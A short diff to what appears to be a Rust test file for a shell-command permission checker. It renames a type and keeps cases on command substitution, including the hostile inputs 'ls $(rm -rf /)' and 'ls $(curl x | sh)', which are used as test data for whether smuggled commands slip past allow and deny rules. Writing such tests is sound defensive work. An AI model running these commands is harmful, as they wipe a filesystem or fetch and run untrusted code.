@@ -1,8 +1,8 @@
 //! What the shell puts in place of what is written.
 
-use super::{NO, Shell, UNCLEAR, YES};
+use super::{NO, ShellCase, UNCLEAR, YES};
 
-pub(super) const CASES: &[Shell] = &[
+pub(super) const CASES: &[ShellCase] = &[
     ("substitution", "ls*", "rm*", "ls $(rm -rf /)", NO, YES),
     ("substitution of an allowed command", "ls*", "rm*", "ls $(ls)", UNCLEAR, NO),
     ("substitution that runs what it loads", "ls*", "rm*", "ls $(curl x | sh)", NO, UNCLEAR),
